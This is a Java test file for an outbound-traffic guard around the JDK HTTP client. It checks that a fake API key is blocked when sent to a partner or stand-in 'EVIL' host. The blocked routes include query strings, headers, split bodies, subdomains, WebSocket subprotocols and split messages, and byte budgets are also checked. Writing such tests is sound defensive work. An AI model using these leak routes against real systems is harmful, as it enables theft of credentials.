package dev.secureruntime.core.jdkhttp;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.secureruntime.core.Gate;
import dev.secureruntime.core.http.LiveExchange;
import dev.secureruntime.core.okhttp.GuardedWorld;
import dev.secureruntime.core.okhttp.LoopbackServer;
import dev.secureruntime.core.okhttp.ReloadWorld;
import dev.secureruntime.egress.EgressDeniedException;
import dev.secureruntime.error.ErrorCode;
import dev.secureruntime.policy.ByteBudget;
import dev.secureruntime.policy.ComponentPolicy;
import dev.secureruntime.policy.EgressRule;
import dev.secureruntime.policy.EgressRule.Scope;
import java.io.ByteArrayInputStream;
import java.lang.invoke.MethodHandles;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpClient.Version;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublisher;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodyHandlers;
import java.net.http.WebSocket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.Flow.Subscriber;
import java.util.concurrent.Flow.Subscription;
import java.util.concurrent.SubmissionPublisher;
import java.util.concurrent.TimeUnit;
import javax.net.ssl.SSLContext;
import javax.net.ssl.TrustManager;
import okhttp3.Protocol;
import okhttp3.WebSocketListener;
import okhttp3.mockwebserver.Dispatcher;
import okhttp3.mockwebserver.MockResponse;
import okhttp3.mockwebserver.RecordedRequest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** Secrets and byte budgets, on what the JDK's client sends. */
class JdkHttpLeavingTest {

    @TempDir
    Path folder;

    private static HttpRequest.Builder to(String url) {
        return HttpRequest.newBuilder(URI.create(url)).timeout(Duration.ofSeconds(30));
    }

    @Test
    void send_ofASecretToWhereItDoesNotBelong_isRefused_andNoByteOfItArrives() throws Exception {
        try (GuardedWorld world = new GuardedWorld(folder)) {
            StringBuilder arrived = new StringBuilder();
            world.provider.server.setDispatcher(new Dispatcher() {
                @Override
                public MockResponse dispatch(RecordedRequest request) {
                    synchronized (arrived) {
                        arrived.append(request.getPath())
                                .append(request.getHeaders())
                                .append(request.getBody().readUtf8());
                    }
                    return LoopbackServer.json("{}");
                }
            });
            HttpClient client = GuardedJdkHttp.client(world.agent);
            String key = GuardedWorld.OPENAI_KEY;
            String partner = world.url(GuardedWorld.PARTNER, "/");
            byte[] bytes = ("x".repeat(30_000) + key + "y".repeat(30_000)).getBytes(StandardCharsets.UTF_8);
            BodyPublisher pieces = BodyPublishers.ofByteArrays(
                    List.of(Arrays.copyOf(bytes, 30_010), Arrays.copyOfRange(bytes, 30_010, bytes.length)));
            List<HttpRequest> leaking = List.of(
                    to(partner + "?q=" + key).build(),
                    to(partner).header("x-custom", key).build(),
                    to(partner).POST(BodyPublishers.ofByteArray(bytes)).build(),
                    to(partner).POST(pieces).build(),
                    to(partner).version(Version.HTTP_1_1).POST(pieces).build());
            for (HttpRequest request : leaking) {
                assertThatThrownBy(() -> client.send(request, BodyHandlers.ofString()))
                        .isInstanceOfSatisfying(EgressDeniedException.class, denied -> assertThat(denied.code())
                                .isEqualTo(ErrorCode.EGRESS_SECRET_LEAVING));
            }
            byte[] harmless = "z".repeat(200_000).getBytes(StandardCharsets.UTF_8);
            assertThat(client.send(
                                    to(partner)
                                            .POST(BodyPublishers.ofByteArray(harmless))
                                            .build(),
                                    BodyHandlers.ofString())
                            .statusCode())
                    .isEqualTo(200);
            assertThat(client.send(
                                    to(partner)
                                            .version(Version.HTTP_1_1)
                                            .POST(BodyPublishers.ofInputStream(
                                                    () -> new ByteArrayInputStream(harmless)))
                                            .build(),
                                    BodyHandlers.ofString())
                            .statusCode())
                    .isEqualTo(200);
            synchronized (arrived) {
                assertThat(arrived.toString()).doesNotContain("sk-real").contains("z".repeat(200_000));
            }
            world.runtime.close();
            assertThat(world.records("egress.call")).hasSize(7);
            assertThat(world.everythingLogged()).doesNotContain(key);
        }
    }

    @Test
    void secret_inARequestThatTheRulesRefuse_isFoundFirst_andStandsInNoRefusal() throws Exception {
        try (GuardedWorld world = new GuardedWorld(folder)) {
            HttpClient client = GuardedJdkHttp.client(world.agent);
            String key = GuardedWorld.OPENAI_KEY;
            String carrier = world.url(key + "." + GuardedWorld.EVIL, "/");
            List<HttpRequest> leaking = List.of(
                    to(carrier).build(),
                    to(world.url(GuardedWorld.EVIL, "/?q=" + key)).build(),
                    to(world.url(GuardedWorld.EVIL, "/"))
                            .header("x-custom", key)
                            .build());
            for (HttpRequest request : leaking) {
                assertThatThrownBy(() -> client.send(request, BodyHandlers.ofString()))
                        .hasMessageNotContaining(key)
                        .isInstanceOfSatisfying(EgressDeniedException.class, denied -> assertThat(denied.code())
                                .isEqualTo(ErrorCode.EGRESS_SECRET_LEAVING));
            }
            assertThatThrownBy(() -> client.newWebSocketBuilder()
                            .buildAsync(
                                    URI.create("wss" + carrier.substring("https".length())),
                                    new WebSocket.Listener() {})
                            .get(30, TimeUnit.SECONDS))
                    .hasMessageNotContaining(key)
                    .cause()
                    .isInstanceOfSatisfying(EgressDeniedException.class, denied -> assertThat(denied.code())
                            .isEqualTo(ErrorCode.EGRESS_SECRET_LEAVING));
            world.runtime.close();
            assertThat(world.records("egress.call")).hasSize(4);
            assertThat(world.everythingLogged()).doesNotContain(key);
        }
    }

    private static CompletableFuture<WebSocket> opening(HttpClient client, GuardedWorld world, String host) {
        return client.newWebSocketBuilder()
                .subprotocols("realtime", "insecure-key." + GuardedWorld.OPENAI_KEY)
                .buildAsync(
                        URI.create("wss" + world.url(host, "/").substring("https".length())),
                        new WebSocket.Listener() {});
    }

    @Test
    void webSocket_withASecretAsSubprotocol_isRefused() throws Exception {
        try (GuardedWorld world = new GuardedWorld(folder)) {
            for (String host : List.of(GuardedWorld.PARTNER, GuardedWorld.EVIL)) {
                world.provider.answer(new MockResponse().withWebSocketUpgrade(new WebSocketListener() {}));
                assertThatThrownBy(() -> opening(GuardedJdkHttp.client(world.agent), world, host)
                                .get(30, TimeUnit.SECONDS))
                        .cause()
                        .isInstanceOfSatisfying(EgressDeniedException.class, denied -> assertThat(denied.code())
                                .isEqualTo(ErrorCode.EGRESS_SECRET_LEAVING));
            }
            assertThat(world.resolver.lookups()).isEmpty();
            assertThat(world.provider.connections()).isZero();
        }
    }

    @Test
    void webSocket_withASecretAsSubprotocol_withoutTheGuard_arrives() throws Exception {
        try (LoopbackServer server = new LoopbackServer("localhost")) {
            server.answer(new MockResponse().setResponseCode(400));
            SSLContext trusting = SSLContext.getInstance("TLS");
            trusting.init(null, new TrustManager[] {LoopbackServer.CLIENT.trustManager()}, null);
            HttpClient bare = HttpClient.newBuilder().sslContext(trusting).build();
            bare.newWebSocketBuilder()
                    .subprotocols("realtime", "insecure-key." + GuardedWorld.OPENAI_KEY)
                    .buildAsync(URI.create("wss://localhost:" + server.port() + "/"), new WebSocket.Listener() {})
                    .handle((socket, failure) -> null)
                    .get(30, TimeUnit.SECONDS);
            RecordedRequest seen = server.server.takeRequest(20, TimeUnit.SECONDS);
            assertThat(seen.getHeader("Sec-WebSocket-Protocol")).contains(GuardedWorld.OPENAI_KEY);
        }
    }

    @Test
    void webSocket_messageWithASecretInTwoParts_endsIt() throws Exception {
        try (GuardedWorld world = new GuardedWorld(folder)) {
            CompletableFuture<String> arrived = new CompletableFuture<>();
            world.provider.answer(new MockResponse().withWebSocketUpgrade(new WebSocketListener() {
                @Override
                public void onMessage(okhttp3.WebSocket socket, String text) {
                    arrived.complete(text);
                }
            }));
            CompletableFuture<Throwable> failure = new CompletableFuture<>();
            WebSocket socket = GuardedJdkHttp.client(world.agent)
                    .newWebSocketBuilder()
                    .buildAsync(
                            URI.create(
                                    "wss" + world.url(GuardedWorld.PARTNER, "/").substring("https".length())),
                            new WebSocket.Listener() {
                                @Override
                                public void onError(WebSocket told, Throwable error) {
                                    failure.complete(error);
                                }
                            })
                    .get(30, TimeUnit.SECONDS);
            socket.sendText("fine: " + GuardedWorld.OPENAI_KEY.substring(0, 12), false)
                    .get(30, TimeUnit.SECONDS);
            assertThatThrownBy(() -> socket.sendText(GuardedWorld.OPENAI_KEY.substring(12), true)
                            .get(30, TimeUnit.SECONDS))
                    .isInstanceOf(ExecutionException.class)
                    .hasCauseInstanceOf(EgressDeniedException.class);
            assertThat(failure.get(30, TimeUnit.SECONDS)).isInstanceOf(EgressDeniedException.class);
            assertThat(arrived).isNotDone();
        }
    }

    @ParameterizedTest
    @EnumSource(
            value = Protocol.class,
            names = {"HTTP_1_1", "HTTP_2"})
    void send_inWhoseMiddleTheBudgetRunsOut_isCutWithItsCode(Protocol protocol) throws Exception {
        try (ReloadWorld world = new ReloadWorld(folder, protocol)) {
            Scope scope = Scope.HTTPS.onPort(world.left.port());
            world.runtime.reload(world.policy(
                    "left-key",
                    ComponentPolicy.builder()
                            .secret("left-key")
                            .allow(EgressRule.host(ReloadWorld.LEFT, scope))
                            .allow(EgressRule.cidr("127.0.0.1/32", scope))
                            .budget(ByteBudget.of(ReloadWorld.LEFT, 100_000, Duration.ofHours(1)))));
            HttpClient client = GuardedJdkHttp.builder(world.agent)
                    .version(protocol == Protocol.HTTP_2 ? Version.HTTP_2 : Version.HTTP_1_1)
                    .build();
            HttpRequest large = to(world.get(ReloadWorld.LEFT).url().toString())
                    .POST(BodyPublishers.ofByteArray(new byte[2_000_000]))
                    .build();

            for (int i = 0; i < 2; i++) {
                assertThatThrownBy(() -> client.send(large, BodyHandlers.ofString()))
                        .isInstanceOfSatisfying(EgressDeniedException.class, denied -> assertThat(denied.code())
                                .isEqualTo(ErrorCode.EGRESS_BUDGET_SPENT));
            }
        }
    }

    /** A server that has answered may ask for no more of a body, which the caller's publisher is told late. */
    @Test
    void body_ofAHopThatIsOver_isTakenNoFurther() throws Exception {
        try (ReloadWorld world = new ReloadWorld(folder, Protocol.HTTP_2);
                SubmissionPublisher<ByteBuffer> pieces = new SubmissionPublisher<>(Runnable::run, 16)) {
            JdkTransport transport =
                    Gate.open(world.agent, MethodHandles.lookup()).transport(JdkTransport.class, JdkTransport::new);
            SentRequest request = SentRequest.of(
                    to(world.get(ReloadWorld.LEFT).url().toString()).build());
            JdkHop hop = JdkHop.first(transport.gate(), request, Duration.ofSeconds(30));
            LiveExchange exchange = transport.entered(hop.snapshot()).begin(hop, () -> {});
            Connection connection = new Connection();
            new RecordedPublisher(BodyPublishers.fromPublisher(pieces), hop, null).subscribe(connection);
            pieces.submit(ByteBuffer.wrap(new byte[10_000]));
            long taken = connection.taken;

            exchange.close();
            pieces.submit(ByteBuffer.wrap(new byte[10_000]));

            assertThat(taken).isPositive();
            assertThat(connection.taken).isEqualTo(taken);
            assertThat(connection.failure).hasMessageContaining("the request is over");
            assertThat(pieces.hasSubscribers()).isFalse();
        }
    }

    /** The end of the JDK's that writes to a connection. */
    private static final class Connection implements Subscriber<ByteBuffer> {

        long taken;
        Throwable failure;

        @Override
        public void onSubscribe(Subscription subscription) {
            subscription.request(Long.MAX_VALUE);
        }

        @Override
        public void onNext(ByteBuffer part) {
            taken += part.remaining();
        }

        @Override
        public void onError(Throwable why) {
            failure = why;
        }

        @Override
        public void onComplete() {
            // Not in these tests.
        }
    }
}
